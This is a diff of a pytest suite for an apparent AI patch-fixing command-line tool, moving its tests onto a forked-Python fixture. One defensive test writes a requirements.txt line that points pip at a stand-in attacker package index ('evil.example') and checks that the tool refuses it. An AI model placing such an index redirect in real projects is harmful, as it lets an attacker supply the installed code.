@@ -12,6 +12,7 @@ from pathlib import Path
 
 import docker_images
 import pytest
+from forked_python import ForkedPython
 
 from agent.models.contract import ModelError
 from environments.sandboxes.contract import SandboxError
@@ -107,12 +108,11 @@ def state(root):
     return git(root, "status", "--porcelain"), {p.name: p.read_bytes() for p in root.rglob("*.*") if p.is_file()}
 
 
-def command(checkout, endpoint, *more, issue=True):
+def arguments(checkout, endpoint, *more, issue=True):
     (checkout.parent / "issue.md").write_text(ISSUE)
     options = ["-m", "openai/scripted", "-c", f"api_base={endpoint.address}", "--trajectories", "2", "--tests", "1"]
     told = ["--issue", str(checkout.parent / "issue.md")] if issue else []
-    arguments = ["fix", str(checkout), *told, *options, "-w", "2", *more]
-    return [sys.executable, "-c", "from swebench_runs.cli import main; main()", *arguments]
+    return ["fix", str(checkout), *told, *options, "-w", "2", *more]
 
 
 def environment(tmp_path):
@@ -120,20 +120,30 @@ def environment(tmp_path):
     return {**os.environ, **own}
 
 
-def fix(checkout, endpoint, *more, issue=True):
-    return subprocess.run(
-        command(checkout, endpoint, *more, issue=issue),
-        capture_output=True,
-        text=True,
-        cwd=checkout.parent,
-        env=environment(checkout.parent),
-        timeout=200,
-    )
+MAIN = "from swebench_runs.cli import main; main()"
 
 
-def test_a_patch_that_applies_and_an_untouched_checkout(checkout, endpoint):
+@pytest.fixture(scope="module")
+def forked():
+    python = ForkedPython()
+    yield python
+    python.close()
+
+
+@pytest.fixture
+def fix(checkout, endpoint, forked):
+    """Runs ``runoff fix`` on the checkout in a process of its own."""
+
+    def run(*more, issue=True, code=MAIN):
+        given = arguments(checkout, endpoint, *more, issue=issue)
+        return forked.run(code, given, cwd=checkout.parent, env=environment(checkout.parent))
+
+    return run
+
+
+def test_a_patch_that_applies_and_an_untouched_checkout(checkout, endpoint, fix):
     before = state(checkout)
-    done = fix(checkout, endpoint)
+    done = fix()
     assert done.returncode == 0, done.stderr
     assert state(checkout) == before
     assert "Answer: a patch of 2 lines in m.py, confidence" in done.stderr
@@ -146,7 +156,7 @@ def test_a_patch_that_applies_and_an_untouched_checkout(checkout, endpoint):
 
     asked = len(endpoint.requests)
     git(checkout, "apply", "-R", str(write(checkout.parent / "p.diff", done.stdout)))
-    again = fix(checkout, endpoint, "--apply", "-o", checkout.parent / "out.patch")
+    again = fix("--apply", "-o", checkout.parent / "out.patch")
     assert again.returncode == 0, again.stderr
     assert len(endpoint.requests) == asked
     assert again.stdout == ""
@@ -154,10 +164,10 @@ def test_a_patch_that_applies_and_an_untouched_checkout(checkout, endpoint):
     assert FIX + "\n" in (checkout / "m.py").read_text()
 
 
-def test_a_failing_test_alone_is_an_issue(checkout, endpoint):
+def test_a_failing_test_alone_is_an_issue(checkout, endpoint, fix):
     (checkout / "tests/test_double.py").write_text(FAILING)
     named = ["--failing-test", "tests/test_double.py::test_double"]
-    done = fix(checkout, endpoint, *SMALL, *named, issue=False)
+    done = fix(*SMALL, *named, issue=False)
     assert done.returncode == 0, done.stderr
     assert f"-{BUG}\n+{FIX}\n" in done.stdout
     assert "passes 1 of 1 reproducing tests" in done.stderr
@@ -169,12 +179,12 @@ def test_a_failing_test_alone_is_an_issue(checkout, endpoint):
         ("base", n, False) for n in (0, 1)
     ]
     asked = len(endpoint.requests)
-    again = fix(checkout, endpoint, *SMALL, *named, issue=False)
+    again = fix(*SMALL, *named, issue=False)
     assert (again.returncode, again.stdout, len(endpoint.requests)) == (0, done.stdout, asked)
 
 
-def test_neither_issue_nor_test_is_one_line(checkout, endpoint):
-    done = fix(checkout, endpoint, issue=False)
+def test_neither_issue_nor_test_is_one_line(checkout, endpoint, fix):
+    done = fix(issue=False)
     assert (done.returncode, done.stderr.count("\n")) == (2, 1)
     assert "--issue FILE, or --failing-test" in done.stderr
 
@@ -185,43 +195,41 @@ def write(path, text):
 
 
 @pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGKILL])
-def test_an_interrupted_fix_resumes_and_asks_nothing_twice(checkout, endpoint, number):
+def test_an_interrupted_fix_resumes_and_asks_nothing_twice(checkout, endpoint, fix, number):
     endpoint.gate.clear()
-    process = subprocess.Popen(
-        command(checkout, endpoint, *SMALL), stdout=-1, stderr=-1, text=True, env=environment(checkout.parent)
-    )
+    command = [sys.executable, "-c", MAIN, *arguments(checkout, endpoint, *SMALL)]
+    process = subprocess.Popen(command, stdout=-1, stderr=-1, text=True, env=environment(checkout.parent))
     assert endpoint.asked.wait(120)
     process.send_signal(number)
     _, told = process.communicate(timeout=60)  # its model call is held back for ten minutes
     assert process.returncode == (130 if number != signal.SIGKILL else -9), told
     in_flight = len(endpoint.requests)
     endpoint.gate.set()
-    done = fix(checkout, endpoint, *SMALL)
+    done = fix(*SMALL)
     assert done.returncode == 0, done.stderr
     assert f"+{FIX}" in done.stdout
     assert len(endpoint.requests) <= len(set(endpoint.requests)) + in_flight
     assert list((checkout.parent / "s").glob("*")) == []
 
 
-def test_a_fix_that_fails_after_its_trajectories_hands_over_the_best_patch_so_far(checkout, endpoint):
-    broken = command(checkout, endpoint, *SMALL, "--apply")
-    broken[2] = (
+def test_a_fix_that_fails_after_its_trajectories_hands_over_the_best_patch_so_far(checkout, endpoint, fix):
+    broken = (
         "from swebench_runs.one_task import stages\n"
         "def vote(*_): raise OSError(28, 'No space left on device')\n"
-        f"stages.vote = vote\n{broken[2]}"
+        f"stages.vote = vote\n{MAIN}"
     )
-    done = subprocess.run(broken, capture_output=True, text=True, env=environment(checkout.parent), timeout=200)
+    done = fix(*SMALL, "--apply", code=broken)
     assert done.returncode == 1, done.stderr
     assert "Not done: [Errno 28] No space left on device" in done.stderr
     assert "The best patch so far, of edit-" in done.stderr
     assert "Not applied" in done.stderr
     assert f"-{BUG}\n+{FIX}\n" in done.stdout
-    assert fix(checkout, endpoint, *SMALL).returncode == 0
+    assert fix(*SMALL).returncode == 0
 
 
-def test_a_refused_key_is_one_line(checkout, endpoint):
+def test_a_refused_key_is_one_line(checkout, endpoint, fix):
     endpoint.status = 401
-    done = fix(checkout, endpoint, *SMALL)
+    done = fix(*SMALL)
     assert done.returncode == 2
     assert "Traceback" not in done.stderr
     last = done.stderr.splitlines()[-1]
@@ -238,32 +246,32 @@ def test_a_failure_that_ends_the_work_has_its_own_exit_code(cause, code):
     assert (str(error), exit_code(error)) == ("edit-0: why (the same command resumes)", code)
 
 
-def test_an_endpoint_that_is_not_there_is_told_before_anything_is_made(checkout, endpoint):
+def test_an_endpoint_that_is_not_there_is_told_before_anything_is_made(checkout, endpoint, fix):
     endpoint.shutdown()
     endpoint.server_close()
-    absent = fix(checkout, endpoint, *SMALL, "-c", "retry_seconds=0.1")
+    absent = fix(*SMALL, "-c", "retry_seconds=0.1")
     assert absent.returncode == 3, absent.stderr
     assert f"nobody answers at {endpoint.address}" in absent.stderr.splitlines()[-1]
     assert not (checkout.parent / "home").exists()
 
 
-def test_a_money_limit_without_a_price_is_refused_before_any_call(checkout, endpoint):
-    done = fix(checkout, endpoint, "-c", "limits.task.cost=1")
+def test_a_money_limit_without_a_price_is_refused_before_any_call(checkout, endpoint, fix):
+    done = fix("-c", "limits.task.cost=1")
     assert done.returncode == 2
     assert "price.policy" in done.stderr
     assert endpoint.requests == []
 
 
-def test_a_hostile_checkout_is_refused_before_anything_runs(checkout, endpoint):
+def test_a_hostile_checkout_is_refused_before_anything_runs(checkout, endpoint, fix):
     (checkout / "requirements.txt").write_text("--index-url https://evil.example/simple\n")
-    done = fix(checkout, endpoint)
+    done = fix()
     assert done.returncode == 2
     assert "refused" in done.stderr
     assert endpoint.requests == []
 
 
 @pytest.mark.skipif(not docker_images.possible(), reason=docker_images.WHY_NOT)
-def test_a_checkout_with_a_dockerfile(checkout, endpoint):
+def test_a_checkout_with_a_dockerfile(checkout, endpoint, fix):
     """What the code imports is in its image alone, and its requirements could not be installed at all."""
     (checkout / "requirements.txt").write_text("private @ https://example.org/private.whl\n")
     (checkout / "m.py").write_text("import built\n" + (checkout / "m.py").read_text())
@@ -271,14 +279,14 @@ def test_a_checkout_with_a_dockerfile(checkout, endpoint):
         f"FROM {docker_images.base()}\nRUN ln -s python3 /usr/bin/python\nWORKDIR /app\nCOPY . .\n"
         "RUN touch /usr/lib/python3/dist-packages/built.py\n"
     )
-    refused = fix(checkout, endpoint, *SMALL)
+    refused = fix(*SMALL)
     assert refused.returncode == 2
     assert "refused" in refused.stderr
-    stopped = fix(checkout, endpoint, *SMALL, "--dockerfile", "./Dockerfile")
+    stopped = fix(*SMALL, "--dockerfile", "./Dockerfile")
     assert (stopped.returncode, len(endpoint.requests)) == (2, 0), stopped.stderr
     last = stopped.stderr.splitlines()[-1]
     assert "pytest is not installed there): install what the tests need in Dockerfile" in last
-    done = fix(checkout, endpoint, *SMALL, "--dockerfile", "./Dockerfile", "--force")
+    done = fix(*SMALL, "--dockerfile", "./Dockerfile", "--force")
     assert done.returncode == 0, done.stderr
     assert f"-{BUG}\n+{FIX}\n" in done.stdout
     assert "passes 1 of 1 reproducing tests" in done.stderr
@@ -287,23 +295,23 @@ def test_a_checkout_with_a_dockerfile(checkout, endpoint):
     assert [line["sandbox"] for line in made if line["event"] == "sandbox"] == ["bubblewrap"] * 2  # stopped, and forced
 
 
-def test_bad_ground_stops_before_the_first_call_and_force_goes_on(checkout, endpoint):
+def test_bad_ground_stops_before_the_first_call_and_force_goes_on(checkout, endpoint, fix):
     (checkout / "m.py").write_text("import nowhere_at_all\n\n\n" + (checkout / "m.py").read_text())
-    done = fix(checkout, endpoint, *SMALL)
+    done = fix(*SMALL)
     assert (done.returncode, len(endpoint.requests)) == (2, 0)
     assert "Traceback" not in done.stderr
     last = done.stderr.splitlines()[-1]
     assert "nowhere_at_all" in last or "nowhere-at-all" in last
     assert "runoff.yaml" in last
-    forced = fix(checkout, endpoint, *SMALL, "--force")
+    forced = fix(*SMALL, "--force")
     assert endpoint.requests
     assert forced.returncode == 0, forced.stderr
 
 
-def test_the_start_says_what_was_taken_for_the_project(checkout, endpoint):
+def test_the_start_says_what_was_taken_for_the_project(checkout, endpoint, fix):
     (checkout / "pyproject.toml").write_text('[tool.poetry]\nname = "m"\n[tool.poetry.dependencies]\npython = "^3.9"\n')
     (checkout / "tests/test_bad.py").write_text("import nowhere_at_all\n")
-    done = fix(checkout, endpoint, *SMALL)
+    done = fix(*SMALL)
     assert done.returncode == 0, done.stderr
     said = " ".join(done.stderr.split())
     assert f"project: {checkout}" in said
@@ -312,8 +320,8 @@ def test_the_start_says_what_was_taken_for_the_project(checkout, endpoint):
     assert "left out of the existing tests: tests/test_bad.py: ModuleNotFoundError" in said
 
 
-def test_a_requirement_that_cannot_be_installed_is_exit_3_and_no_call(checkout, endpoint):
+def test_a_requirement_that_cannot_be_installed_is_exit_3_and_no_call(checkout, endpoint, fix):
     (checkout / "requirements.txt").write_text("pytest==0.0.0.1\n")
-    done = fix(checkout, endpoint, *SMALL)
+    done = fix(*SMALL)
     assert (done.returncode, len(endpoint.requests)) == (3, 0)
     assert "pip could not install" in done.stderr.splitlines()[-1]
